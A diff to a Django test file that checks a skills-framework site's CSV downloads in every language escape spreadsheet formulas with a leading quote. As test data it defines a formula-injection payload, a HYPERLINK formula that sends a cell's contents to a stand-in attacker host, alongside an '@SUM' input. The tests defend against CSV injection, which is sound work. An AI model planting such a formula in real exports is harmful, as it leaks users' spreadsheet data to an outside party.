@@ -147,12 +147,24 @@ def test_the_csv_for_all_languages_has_a_column_for_each_text_in_each(client, co
     assert row["Page address"] == "http://testserver/skills/slmo/5/"  # the address for everyone
 
 
-def test_a_text_a_spreadsheet_would_take_for_a_formula_is_kept_as_text(client, content):
-    Skill.objects.filter(code="SLMO").update(name_de='=HYPERLINK("http://example.com")')
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Hier klicken")'
 
-    row = row_at(csv_rows(client.get("/downloads/sfia-de.csv")), "SLMO", 5)
 
-    assert row["Fähigkeit"] == '\'=HYPERLINK("http://example.com")'
+@pytest.mark.parametrize("language", SHAPES)
+def test_every_csv_keeps_a_text_a_spreadsheet_would_run_as_text(client, content, language):
+    names = {f"name_{code}": FORMULA for code in LANGUAGE_CODES}
+    Skill.objects.filter(code="SLMO").update(**names)
+    descriptions = {f"description_{code}": "@SUM(A1:A9)" for code in LANGUAGE_CODES}
+    SkillLevel.objects.filter(skill__code="SLMO", level=5).update(**descriptions)
+
+    rows = csv_rows(client.get(f"/downloads/sfia-{language}.csv"))
+
+    cells = [cell for row in rows for cell in row]
+    slmo_rows = [row for row in rows if row[0] == "SLMO"]
+    columns = len(LANGUAGE_CODES) if language == "all" else 1
+    assert cells.count("'" + FORMULA) == len(slmo_rows) * columns
+    assert cells.count("'@SUM(A1:A9)") == columns
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
 
 
 # JSON.
